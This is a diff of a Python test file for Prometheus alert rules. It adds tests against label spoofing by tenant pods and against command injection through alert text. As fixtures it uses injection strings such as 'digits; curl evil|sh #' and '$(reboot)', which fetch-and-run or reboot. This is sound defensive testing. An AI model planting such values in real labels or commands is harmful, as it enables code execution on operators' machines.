@@ -1,16 +1,17 @@
-"""Every alert fires where it should and is silent where it should be, as promtool judges."""
+"""Every alert fires where it should, is silent where it should be, and believes nobody but the operator, as promtool
+judges."""
 
 import re
 import subprocess
 from collections.abc import Mapping
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 
-from charts import alerts
+from charts import alerts, series
 from charts.alerts import ALERTS, Alert
 from lab import gotools
 from tests.integration.conftest import REPOSITORY
@@ -24,6 +25,9 @@ OF_BATCH = 'batch_namespace="shop",batch="churn"'
 MODEL = {"model_namespace": "shop", "model": "digits"}
 BATCH = {"batch_namespace": "shop", "batch": "churn"}
 REPLICAS = ('instance="a"', 'instance="b"')
+TENANTS = 'job="pods",namespace="evil"'
+"""What Prometheus says of a pod that exposes the operator's series."""
+SHELL = "digits; curl evil|sh #"
 SECONDS = 10.0
 
 
@@ -113,7 +117,7 @@ CASES: dict[str, list[Case]] = {
     ],
     "SluiceOperatorDown": [
         Case({'sluice_leader{instance="a"}': "0x60"}, "6m", {}),
-        Case({'up{job="other"}': "1x60"}, "6m", {}),
+        Case({'up{instance="a"}': "1x60"}, "6m", {}),
         Case({'sluice_leader{instance="a"}': "0x60", 'sluice_leader{instance="b"}': "1x60"}, "30m"),
         Case({'sluice_leader{instance="a"}': "1x10 0x3 1x20"}, "14m"),
     ],
@@ -164,7 +168,12 @@ def annotations(alert: Alert, labels: Mapping[str, str], value: str) -> dict[str
     return {name: filled(text) for name, text in alert.rule["annotations"].items()}
 
 
-def in_promtools_words(alert: Alert, case: Case) -> dict[str, Any]:
+def scraped(exposed: Mapping[str, str], by: str) -> dict[str, str]:
+    """Series with the labels that a scrape gives them."""
+    return {f"{name.removesuffix('}')},{by}}}": values for name, values in exposed.items()}
+
+
+def in_promtools_words(alert: Alert, case: Case, by: str = series.OPERATOR) -> dict[str, Any]:
     """One test in promtool's words."""
     expected = []
     if case.labels is not None:
@@ -172,7 +181,7 @@ def in_promtools_words(alert: Alert, case: Case) -> dict[str, Any]:
         expected = [{"exp_labels": labels, "exp_annotations": annotations(alert, case.labels, case.value)}]
     return {
         "interval": "1m",
-        "input_series": [{"series": series, "values": values} for series, values in case.series.items()],
+        "input_series": [{"series": name, "values": values} for name, values in scraped(case.series, by).items()],
         "alert_rule_test": [{"eval_time": case.at, "alertname": alert.name, "exp_alerts": expected}],
     }
 
@@ -194,10 +203,52 @@ def test_every_alert_has_a_case_in_which_it_fires_and_one_in_which_it_is_silent(
         assert {case.labels is None for case in cases} == {True, False}, name
 
 
-@pytest.mark.parametrize("alert", ALERTS, ids=lambda alert: alert.name)
-def test_an_alert_fires_and_is_silent(alert: Alert, tmp_path: Path) -> None:
-    file = tmp_path / "test.yaml"
-    tests = [in_promtools_words(alert, case) for case in CASES[alert.name]]
-    file.write_text(yaml.safe_dump({"rule_files": [str(RULES)], "evaluation_interval": "1m", "tests": tests}))
+def judged(folder: Path, *tests: dict[str, Any]) -> None:
+    """Fails with promtool's words."""
+    file = folder / "test.yaml"
+    file.write_text(yaml.safe_dump({"rule_files": [str(RULES)], "evaluation_interval": "1m", "tests": list(tests)}))
     done = promtool("test", "rules", file)
     assert done.returncode == 0, done.stdout + done.stderr
+
+
+@pytest.mark.parametrize("alert", ALERTS, ids=lambda alert: alert.name)
+def test_an_alert_fires_and_is_silent(alert: Alert, tmp_path: Path) -> None:
+    judged(tmp_path, *(in_promtools_words(alert, case) for case in CASES[alert.name]))
+
+
+def test_a_tenants_leader_does_not_silence_that_nobody_leads(tmp_path: Path) -> None:
+    (alert,) = (each for each in ALERTS if each.name == "SluiceOperatorDown")
+    case = Case({'sluice_leader{instance="a"}': "1x60"}, "6m", {})
+    elsewhere = ("", TENANTS, 'job="sluice",namespace="evil"', 'job="pods",namespace="sluice-system"')
+    judged(tmp_path, *(in_promtools_words(alert, case, by) for by in elsewhere))
+
+
+@pytest.mark.parametrize(
+    "alert", [alert for alert in ALERTS if alert.name != "SluiceOperatorDown"], ids=lambda alert: alert.name
+)
+def test_series_of_a_tenant_are_no_alert(alert: Alert, tmp_path: Path) -> None:
+    fire = [case for case in CASES[alert.name] if case.labels is not None]
+    judged(tmp_path, *(in_promtools_words(alert, replace(case, labels=None), TENANTS) for case in fire))
+
+
+@pytest.mark.parametrize("label", ["model", "model_namespace", "batch", "batch_namespace", "reason", "kind"])
+def test_only_names_get_into_the_command_of_an_alert(label: str, tmp_path: Path) -> None:
+    """Whoever else gives series these labels, as a Prometheus without relabelling does."""
+    pattern = re.compile(rf'\b{label}="[^"]*"')
+    shown = [alert for alert in ALERTS if f"$labels.{label} " in alert.summary + alert.description]
+    fire = [(alert, case) for alert in shown for case in CASES[alert.name] if case.labels is not None]
+    assert fire
+    for text in (SHELL, "$(reboot)", "-n", "a'b", ""):
+        forged = [
+            (alert, {pattern.sub(f'{label}="{text}"', name): values for name, values in case.series.items()}, case.at)
+            for alert, case in fire
+        ]
+        judged(tmp_path, *(in_promtools_words(alert, Case(exposed, at)) for alert, exposed, at in forged))
+
+
+@pytest.mark.parametrize("alert", ALERTS, ids=lambda alert: alert.name)
+def test_what_an_alert_puts_into_a_command_is_quoted(alert: Alert) -> None:
+    """Behind the word kubectl, up to the end of the sentence."""
+    for command in re.findall(r"kubectl [^.;]+", re.sub(r"\$labels\.", "$labels ", alert.description)):
+        for before, after in re.findall(r"(.)\{\{ \$labels \w+ \}\}(.)", command):
+            assert (before, after) == ("'", "'"), command
